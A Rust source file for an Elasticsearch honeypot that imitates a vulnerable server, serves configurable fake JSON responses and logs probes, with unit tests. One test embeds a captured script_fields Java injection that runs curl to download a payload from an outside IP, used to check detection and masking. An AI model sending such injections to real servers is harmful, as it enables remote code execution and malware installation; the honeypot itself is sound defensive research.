//! Medium-interaction Elasticsearch honeypot (Elasticpot-style).
//!
//! "Replicates a vulnerable Elasticsearch server accessible over the
//! internet. Its response to queries can be extensively customized through
//! .json files" (§4.1). Authentication is disabled and anyone can issue
//! commands through the emulated HTTP API — the configuration of §4.2.
//!
//! The response book is JSON-configurable: exact-path and prefix rules plus
//! built-in defaults for the endpoints institutional scanners and the
//! Lucifer campaign hit (`/`, `/_nodes`, `/_cluster/health`, `/_cat/indices`,
//! `/_search` including `script_fields` payloads).

use crate::catalog;
use crate::logging::SessionLogger;
use crate::session::{Flow, Session};
use decoy_base::json::{self, object, Value};
use decoy_wire::http::{HttpRequest, HttpResponse, HttpServerCodec};
use std::sync::Arc;

/// A customization rule: method (or `*`), path match, response.
#[derive(Debug, Clone)]
pub struct ResponseRule {
    /// HTTP method or `*`.
    pub method: String,
    /// Exact path, or a prefix when it ends with `*`.
    pub path: String,
    /// Status code to answer.
    pub status: u16,
    /// JSON body to answer.
    pub body: Value,
}

impl ResponseRule {
    fn matches(&self, req: &HttpRequest) -> bool {
        let method_ok = self.method == "*" || self.method.eq_ignore_ascii_case(&req.method);
        let path = req.path();
        let path_ok = match self.path.strip_suffix('*') {
            Some(prefix) => path.starts_with(prefix),
            None => path == self.path,
        };
        method_ok && path_ok
    }
}

/// The JSON-driven response configuration.
#[derive(Debug, Clone, Default)]
pub struct ResponseBook {
    rules: Vec<ResponseRule>,
}

impl ResponseBook {
    /// Empty book: only built-in defaults answer.
    pub fn new() -> Self {
        ResponseBook::default()
    }

    /// Add a rule (first match wins, before defaults).
    pub fn with_rule(mut self, method: &str, path: &str, status: u16, body: Value) -> Self {
        self.rules.push(ResponseRule {
            method: method.to_string(),
            path: path.to_string(),
            status,
            body,
        });
        self
    }

    /// Parse rules from the Elasticpot-style JSON configuration format:
    /// `[{"method":"GET","path":"/_cat/indices","status":200,"body":{...}}]`.
    pub fn from_json(text: &str) -> Result<Self, String> {
        let raw = json::parse(text.as_bytes()).map_err(|e| e.to_string())?;
        let Value::Array(entries) = raw else {
            return Err("expected an array of rules".to_string());
        };
        let mut book = ResponseBook::new();
        for entry in entries {
            book.rules.push(ResponseRule {
                method: entry
                    .get("method")
                    .and_then(Value::as_str)
                    .unwrap_or("*")
                    .to_string(),
                path: entry
                    .get("path")
                    .and_then(Value::as_str)
                    .unwrap_or("/")
                    .to_string(),
                status: entry
                    .get("status")
                    .and_then(Value::as_u64)
                    .and_then(|s| u16::try_from(s).ok())
                    .unwrap_or(200),
                body: entry.get("body").cloned().unwrap_or(Value::Null),
            });
        }
        Ok(book)
    }

    fn lookup(&self, req: &HttpRequest) -> Option<&ResponseRule> {
        self.rules.iter().find(|r| r.matches(req))
    }
}

/// The medium-interaction Elasticsearch honeypot; the default
/// configuration answers from the built-in defaults only.
#[derive(Debug, Clone, Default)]
pub struct ElasticPot {
    book: Arc<ResponseBook>,
}

impl ElasticPot {
    /// With a customized response book.
    pub fn with_book(book: ResponseBook) -> Self {
        ElasticPot {
            book: Arc::new(book),
        }
    }

    fn respond(&self, req: &HttpRequest) -> HttpResponse {
        if let Some(rule) = self.book.lookup(req) {
            return HttpResponse::json(rule.status, rule.body.to_string());
        }
        let path = req.path().to_string();
        let body_text = req.body_text();
        match (req.method.as_str(), path.as_str()) {
            (_, "/") => {
                let version = object([
                    ("number", catalog::ELASTIC_VERSION.into()),
                    ("build_hash", catalog::ELASTIC_BUILD_HASH.into()),
                    ("lucene_version", catalog::LUCENE_VERSION.into()),
                ]);
                let banner = object([
                    ("name", "node-1".into()),
                    ("cluster_name", catalog::ELASTIC_CLUSTER_NAME.into()),
                    ("cluster_uuid", "Hl0H4cyrSseJp5pYrMio5g".into()),
                    ("version", version),
                    ("tagline", "You Know, for Search".into()),
                ]);
                HttpResponse::json(200, banner.to_string())
            }
            ("GET", "/_cluster/health") => {
                let health = object([
                    ("cluster_name", catalog::ELASTIC_CLUSTER_NAME.into()),
                    ("status", "yellow".into()),
                    ("number_of_nodes", 1.into()),
                    ("number_of_data_nodes", 1.into()),
                    ("active_primary_shards", 5.into()),
                    ("active_shards", 5.into()),
                    ("unassigned_shards", 5.into()),
                ]);
                HttpResponse::json(200, health.to_string())
            }
            ("GET", "/_nodes") | ("GET", "/_nodes/stats") => {
                let node = object([
                    ("name", "node-1".into()),
                    ("host", "172.17.0.2".into()),
                    ("version", catalog::ELASTIC_VERSION.into()),
                    (
                        "os",
                        object([("name", "Linux".into()), ("arch", "amd64".into())]),
                    ),
                ]);
                let nodes = object([
                    (
                        "_nodes",
                        object([("total", 1.into()), ("successful", 1.into())]),
                    ),
                    ("cluster_name", catalog::ELASTIC_CLUSTER_NAME.into()),
                    ("nodes", object([("x1CefFEJTIyBV2uxjLUYdw", node)])),
                ]);
                HttpResponse::json(200, nodes.to_string())
            }
            ("GET", "/_cat/indices") => HttpResponse::json(
                200,
                "yellow open customers R3PpbEzJQ1y 5 1 1284 0 1.1mb 1.1mb\n\
                 yellow open orders    mJ9qXc2WQm1 5 1 5411 0 4.0mb 4.0mb\n",
            ),
            (_, p) if p.ends_with("/_search") || p == "/_search" => {
                self.search_response(&body_text, req)
            }
            ("PUT" | "POST", p) if p.contains("/_doc") => {
                let created = object([
                    ("_index", p.split('/').nth(1).unwrap_or("idx").into()),
                    ("_type", "_doc".into()),
                    ("_id", "AV8KXxYcZ1".into()),
                    ("result", "created".into()),
                    (
                        "_shards",
                        object([
                            ("total", 2.into()),
                            ("successful", 1.into()),
                            ("failed", 0.into()),
                        ]),
                    ),
                ]);
                HttpResponse::json(201, created.to_string())
            }
            ("DELETE", _) => {
                let acknowledged = object([("acknowledged", true.into())]);
                HttpResponse::json(200, acknowledged.to_string())
            }
            // real ES 5.x sends the full resource envelope on 404; the
            // bare type+reason body was a probe-visible tell
            _ => {
                let index = path.trim_start_matches('/').split('/').next().unwrap_or("");
                let mut body = String::new();
                let _ = catalog::elastic_index_not_found(&mut body, index);
                HttpResponse::json(404, body)
            }
        }
    }

    fn search_response(&self, body: &str, req: &HttpRequest) -> HttpResponse {
        // Lucifer (Listing 5) smuggles Java in `script_fields` via the URL's
        // source parameter; either way the body/query reaches us as text.
        let combined = format!("{} {}", req.target, body);
        let scripted =
            combined.contains("script_fields") || combined.contains("Runtime.getRuntime");
        let hit = if scripted {
            // a vulnerable 1.x/5.x cluster would attempt the script; ours
            // answers a plausible empty evaluation
            let fields = object([("exp", vec!["".into()].into())]);
            object([
                ("_index", "customers".into()),
                ("_id", "1".into()),
                ("_score", 1.0.into()),
                ("fields", fields),
            ])
        } else {
            let source = object([
                ("name", "James Smith".into()),
                ("card", "4111111111111111".into()),
            ]);
            object([
                ("_index", "customers".into()),
                ("_id", "1".into()),
                ("_score", 1.0.into()),
                ("_source", source),
            ])
        };
        let hits = object([
            ("total", 1.into()),
            ("max_score", 1.0.into()),
            ("hits", vec![hit].into()),
        ]);
        let found = object([
            ("took", 3.into()),
            ("timed_out", false.into()),
            (
                "_shards",
                object([
                    ("total", 5.into()),
                    ("successful", 5.into()),
                    ("failed", 0.into()),
                ]),
            ),
            ("hits", hits),
        ]);
        HttpResponse::json(200, found.to_string())
    }
}

impl Session for ElasticPot {
    type Codec = HttpServerCodec;

    fn codec(&self) -> HttpServerCodec {
        HttpServerCodec
    }

    fn on_frame(
        &mut self,
        req: HttpRequest,
        out: &mut Vec<HttpResponse>,
        log: &SessionLogger,
    ) -> Flow {
        log.command(&render(&req));
        // a foreign probe in the body (or, failing that, the target) is
        // captured as it arrived
        let parts = [req.body.as_ref(), req.target.as_bytes()];
        if let Some(probe) = parts
            .into_iter()
            .find(|part| decoy_store::foreign::recognize(part).is_some())
        {
            log.payload(probe);
        }
        out.push(self.respond(&req));
        flow_after(&req)
    }
}

/// A request rendered the way Elasticpot logs it: METHOD + target (+ body).
/// The CouchDB honeypot logs the same way.
pub(crate) fn render(req: &HttpRequest) -> String {
    if req.body.is_empty() {
        format!("{} {}", req.method, req.target)
    } else {
        format!("{} {} {}", req.method, req.target, req.body_text())
    }
}

/// An HTTP session reads on unless the client sent `Connection: close`.
pub(crate) fn flow_after(req: &HttpRequest) -> Flow {
    match req.header("connection") {
        Some(v) if v.eq_ignore_ascii_case("close") => Flow::Close,
        _ => Flow::Continue,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::driver::Driver;
    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};
    use decoy_wire::http::HttpClientCodec;

    type Client = Driver<HttpClientCodec>;

    fn connect(book: ResponseBook) -> (Client, Arc<EventStore>) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::Elastic,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        let client = Driver::connect(ElasticPot::with_book(book), &store, id, HttpClientCodec);
        (client, store)
    }

    #[test]
    fn banner_and_cluster_endpoints() {
        let (mut f, store) = connect(ResponseBook::new());
        let banner = f.roundtrip(&HttpRequest::new("GET", "/"));
        assert_eq!(banner.status, 200);
        let v = json::parse(&banner.body).unwrap();
        assert_eq!(v["tagline"].as_str(), Some("You Know, for Search"));
        let health = f.roundtrip(&HttpRequest::new("GET", "/_cluster/health"));
        let v = json::parse(&health.body).unwrap();
        assert_eq!(v["status"].as_str(), Some("yellow"));
        let nodes = f.roundtrip(&HttpRequest::new("GET", "/_nodes"));
        assert_eq!(nodes.status, 200);
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            3
        );
    }

    #[test]
    fn custom_rules_override_defaults() {
        let custom = object([("custom", true.into())]);
        let book = ResponseBook::new().with_rule("GET", "/_cat/indices", 200, custom);
        let (mut f, _store) = connect(book);
        let resp = f.roundtrip(&HttpRequest::new("GET", "/_cat/indices"));
        assert_eq!(resp.body_text(), r#"{"custom":true}"#);
    }

    #[test]
    fn response_book_from_json() {
        let book = ResponseBook::from_json(
            r#"[{"method":"GET","path":"/secret*","status":403,"body":{"denied":true}}]"#,
        )
        .unwrap();
        let req = HttpRequest::new("GET", "/secret/files");
        let rule = book.lookup(&req).unwrap();
        assert_eq!(rule.status, 403);
        assert_eq!(rule.body.to_string(), r#"{"denied":true}"#);
        assert!(book.lookup(&HttpRequest::new("GET", "/open")).is_none());
        assert!(ResponseBook::from_json("not json").is_err());
        assert!(ResponseBook::from_json(r#"{"method":"GET"}"#).is_err());
        // absent fields take their defaults
        let book = ResponseBook::from_json(r#"[{"status":70000}]"#).unwrap();
        let rule = book.lookup(&HttpRequest::new("POST", "/")).unwrap();
        assert_eq!((rule.status, &rule.body), (200, &Value::Null));
    }

    #[test]
    fn lucifer_script_injection_is_logged_and_answered() {
        // Listing 5: /_search?source={... script_fields ... Runtime.getRuntime ...}
        let (mut f, store) = connect(ResponseBook::new());
        let body = r#"{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"import java.util.*; Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://198.51.100.8:9999/sss6\")"}}}"#;
        let resp =
            f.roundtrip(&HttpRequest::new("POST", "/_search").with_body("application/json", body));
        assert_eq!(resp.status, 200);
        let v = json::parse(&resp.body).unwrap();
        assert_eq!(v["timed_out"].as_bool(), Some(false));
        let cmds = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.contains("script_fields")),
        );
        assert_eq!(cmds.len(), 1);
        // masked action hides the loader address
        let EventKind::Command { action, .. } = &cmds[0].kind else {
            unreachable!()
        };
        assert!(action.contains("http://<IP>/sss6"), "{action}");
    }

    #[test]
    fn craftcms_probe_is_recognized() {
        let (mut f, store) = connect(ResponseBook::new());
        let body = decoy_store::foreign::craftcms_probe_body();
        let resp = f.roundtrip(
            &HttpRequest::new("POST", "/index.php")
                .with_body("application/x-www-form-urlencoded", body),
        );
        // no Craft CMS here: invalid-for-ES syntax yields the 404 error json
        assert_eq!(resp.status, 404);
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "craftcms-probe")
        });
        assert_eq!(payloads.len(), 1);
    }

    #[test]
    fn document_insert_pretends_to_succeed() {
        let (mut f, _store) = connect(ResponseBook::new());
        let resp = f.roundtrip(
            &HttpRequest::new("POST", "/pwned/_doc")
                .with_body("application/json", r#"{"ransom":"pay up"}"#),
        );
        assert_eq!(resp.status, 201);
        let v = json::parse(&resp.body).unwrap();
        assert_eq!(v["result"].as_str(), Some("created"));
    }

    #[test]
    fn connection_close_header_is_honored() {
        let (mut f, _store) = connect(ResponseBook::new());
        let mut req = HttpRequest::new("GET", "/");
        req.headers.push(("Connection".into(), "close".into()));
        let resp = f.roundtrip(&req);
        assert_eq!(resp.status, 200);
        // server closes; next read yields clean EOF
        assert!(f.read().unwrap().is_none());
    }

    fn answer(book: ResponseBook, req: HttpRequest) -> (u16, String) {
        let resp = ElasticPot::with_book(book).respond(&req);
        (resp.status, resp.body_text())
    }

    /// Every JSON body, byte for byte: keys sorted, no whitespace, `1.0`
    /// for the scores.
    #[test]
    fn bodies_are_pinned() {
        let get = |target: &str| answer(ResponseBook::new(), HttpRequest::new("GET", target));
        let banner = r#"{"cluster_name":"elasticsearch","cluster_uuid":"Hl0H4cyrSseJp5pYrMio5g","name":"node-1","tagline":"You Know, for Search","version":{"build_hash":"3a740d1","lucene_version":"6.6.1","number":"5.6.16"}}"#;
        let health = r#"{"active_primary_shards":5,"active_shards":5,"cluster_name":"elasticsearch","number_of_data_nodes":1,"number_of_nodes":1,"status":"yellow","unassigned_shards":5}"#;
        let nodes = r#"{"_nodes":{"successful":1,"total":1},"cluster_name":"elasticsearch","nodes":{"x1CefFEJTIyBV2uxjLUYdw":{"host":"172.17.0.2","name":"node-1","os":{"arch":"amd64","name":"Linux"},"version":"5.6.16"}}}"#;
        let found = r#"{"_shards":{"failed":0,"successful":5,"total":5},"hits":{"hits":[{"_id":"1","_index":"customers","_score":1.0,"_source":{"card":"4111111111111111","name":"James Smith"}}],"max_score":1.0,"total":1},"timed_out":false,"took":3}"#;
        let scripted = r#"{"_shards":{"failed":0,"successful":5,"total":5},"hits":{"hits":[{"_id":"1","_index":"customers","_score":1.0,"fields":{"exp":[""]}}],"max_score":1.0,"total":1},"timed_out":false,"took":3}"#;
        assert_eq!(get("/"), (200, banner.to_string()));
        assert_eq!(get("/_cluster/health"), (200, health.to_string()));
        assert_eq!(get("/_nodes"), (200, nodes.to_string()));
        assert_eq!(get("/_nodes/stats"), (200, nodes.to_string()));
        assert_eq!(get("/customers/_search"), (200, found.to_string()));
        let lucifer = HttpRequest::new("POST", "/_search")
            .with_body("application/json", r#"{"script_fields":{}}"#);
        assert_eq!(
            answer(ResponseBook::new(), lucifer),
            (200, scripted.to_string())
        );
        let insert = HttpRequest::new("PUT", "/pwned/_doc/1")
            .with_body("application/json", r#"{"ransom":"pay up"}"#);
        let created = r#"{"_id":"AV8KXxYcZ1","_index":"pwned","_shards":{"failed":0,"successful":1,"total":2},"_type":"_doc","result":"created"}"#;
        assert_eq!(
            answer(ResponseBook::new(), insert),
            (201, created.to_string())
        );
        let delete = HttpRequest::new("DELETE", "/pwned");
        let acknowledged = r#"{"acknowledged":true}"#.to_string();
        assert_eq!(answer(ResponseBook::new(), delete), (200, acknowledged));
        // the unknown index is escaped into both resource fields, U+0008
        // as `\b`
        let (status, missing) = get("/se\"cret\u{8}/x");
        let resource = r#""resource.id":"se\"cret\b","index_uuid":"_na_","index":"se\"cret\b"}"#;
        assert_eq!(status, 404);
        assert!(missing.contains(resource), "{missing}");
        // a configured rule answers its body as compact JSON
        let book = ResponseBook::from_json(
            r#"[{"method":"*","path":"/_cat/*","status":418,"body":{"b":[1.0,-2],"a":"\u00e9"}}]"#,
        )
        .unwrap();
        let rule = answer(book, HttpRequest::new("GET", "/_cat/indices"));
        assert_eq!(rule, (418, r#"{"a":"é","b":[1.0,-2]}"#.to_string()));
    }
}
